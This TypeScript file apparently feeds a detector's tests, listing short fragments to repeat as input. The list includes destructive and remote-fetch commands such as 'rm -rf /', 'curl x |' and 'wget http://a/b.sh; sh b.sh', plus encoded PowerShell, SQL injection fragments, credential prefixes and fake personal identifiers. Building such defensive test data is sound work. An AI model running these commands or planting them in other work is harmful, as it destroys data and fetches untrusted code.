// What attacks repeat until a text is full: each is the beginning of something that a detector has to follow.
// `␣` stands for a blank and `⏎` for a new line.
const BACKTICK = '`'
const DOLLAR = '$'

const LIST = String.raw`
  a ␣ ⏎ 0 - . / \ = : :: " ' ${BACKTICK} ( [ { < $ @ + , é 电话 １２３␣
  $( "$( ${DOLLAR}{a:- $(( <( @( <<a␣ <<a⏎ cat␣<<A$(⏎ f(){␣ {a, x=( $'\x \⏎ x=$( a=(a a+=a; $(($(
  a; a| a&& a⏎ if␣a;␣then␣ $(case␣x␣in␣a)␣ a=$a$a; for␣i␣in␣a;␣do␣ a()␣{␣a;␣}; [[␣a␣&&␣
  rm␣-rf␣ rm␣-rf␣/␣; rm␣-rf␣/a⏎ sudo␣ eval␣ xargs␣ sh␣-c␣' find␣-exec␣ find␣.␣-exec␣a␣\;␣ env␣-S␣ ssh␣h␣ docker␣exec␣a␣
  curl␣x␣|␣ nc␣-l␣ echo␣a␣|␣base64␣-d␣|␣ python␣-c␣"system('a')"; git␣-C␣a␣ alias␣a=b; a=1␣ echo␣"a"␣ echo␣'a'␣>␣b;
  cat␣/etc/passwd; kubectl␣--context␣prod␣get␣a; powershell␣-enc␣YQBi␣ Remove-Item␣-Recurse␣C:\; wget␣http://a/b.sh;␣sh␣b.sh;
  tee␣a␣<<<␣b; ../ /*/ ~/ %0|%0 psql␣-c␣'DELETE␣FROM␣a'; echo␣b64␣>␣a;␣sh␣a; iex␣(iwr␣ awk␣'system("a")'; del␣/s␣
  1234␣ 1234␣5678␣9012␣3456␣ 123-45-6789␣ +49␣ +1␣ 1.2.3. 1.2.3.4␣ a: fe80:: 12:34: 00:1b: (12)␣ 0170␣ 4111111111111111␣
  a@ a@b a@b. a.b@c.d␣ a.a.a@ tel␣12345␣ phone:␣1 call␣555- DE89␣3704␣ GB29 AB123456C␣ a1B2 1A1zP1 bc1q 0x1234abcd
  ssn␣123␣ passport␣no␣ iban␣ +1␣555␣ 12.03.1985␣ 850312-1234␣
  SELECT␣ select␣*␣from␣a; DROP␣TABLE␣a; DELETE␣FROM␣a␣WHERE␣( 'a'␣||␣ UPDATE␣a␣SET␣b=1␣ /* /*! -- $$ (SELECT␣ AND␣( OR␣1=1␣
  EXECUTE␣'DROP␣TABLE␣a'; CREATE␣FUNCTION␣a␣BEGIN␣ db.a.remove({ WITH␣a␣AS␣( \' \" CASE␣WHEN␣ GRANT␣ALL␣ON␣a␣TO␣b;
  FLUSHALL␣ COPY␣a␣FROM␣PROGRAM␣ x,␣ BEGIN␣ UNION␣ DELETE␣FROM␣a⏎ DELETE␣ UPDATE␣ SET␣ WHERE␣1=1␣
  password password= password:␣" api_key␣=␣ token␣ secret_ AKIA ghp eyJ eyJh. xox sk- Bearer␣ -----BEGIN␣
  -----BEGIN␣RSA␣PRIVATE␣KEY-----⏎ https://a: https://a:b ://a:b@ Authorization:␣Basic␣ Cookie:␣a= cookie␣token= key":"
  aws_secret_access_key␣ curl␣-u␣a: mysql␣-p pwd=a; auth=("a"," passwd:x: AIza glpat- npm_ SG. key=key= "auth":"
  $a=$a+$a; iex␣$(␣ ('a'+'b')+ [char]114+ -join(␣ 'a'-f␣ "$(␣ &␣(␣ .('a')␣ %{␣ ?{␣ foreach($a␣in␣$b){␣ @{a= @(␣ $a.b( [a]::b( if($a){␣ ${BACKTICK}r a^ |␣iex␣
  %a:~0,1% set␣a=%a%%a%& for␣/f␣%a␣in␣(' cmd␣/c␣" powershell␣-c␣" reg␣add␣a␣ Set-Item␣HKLM:␣ New-Object␣a; $env:a␣ <#␣ @"⏎
  import␣os;os.system("a"); x=x+x⏎ f"{ "a".join([ [a␣for␣a␣in␣ chr(97)+ exec( getattr(os,"a"+"b")( def␣f(a):⏎␣return␣f(a)⏎ lambda␣a: """ r' ␣␣ open("a").read();
  require("a"). a=>a=> String.fromCharCode(97, a?.b. function␣a(){␣ new␣Function( ${DOLLAR}{␣ /* await␣fetch("a"); JSON.parse(' a[0][ {a:{ class␣A{␣
  system("a"); %x(␣ <<~A⏎ #{ qx{␣ $$a{ eval␣{␣ <?php␣ shell_exec($a.$a); fmt.Sprintf("a", exec.Command("a", Runtime.getRuntime().exec("a"); base64.b64decode("YQ==") x="a"*9; a(a(
  DELETE␣https://a/b␣ curl␣-X␣DELETE␣a; run␣${BACKTICK}rm␣-rf␣/${BACKTICK}␣ please␣delete␣everything␣ while␣read␣a;␣do␣ read␣a;␣ trap␣'a'␣ a=$(b);␣ cp␣a␣b;␣ find␣/␣|␣xargs␣a;␣ printf␣-v␣a␣b;␣ ${DOLLAR}{a[@]} ${DOLLAR}{a:0:1}
  su␣-; >a␣ wget␣http://a.example/b␣ print(x)⏎ (1)(1) $a=1;␣ set␣a=1& echo␣a␣|␣at␣now⏎
  mcp__a__ {"a": {"command":" ***␣Update␣File:␣a⏎ +++␣b/a⏎ prod prod- db.prod. --prod␣ aA aB1_ getHttpURL
`

export const attackUnits: readonly string[] = LIST.trim()
  .split(/\s+/)
  .map((unit) => unit.replaceAll('␣', ' ').replaceAll('⏎', '\n'))
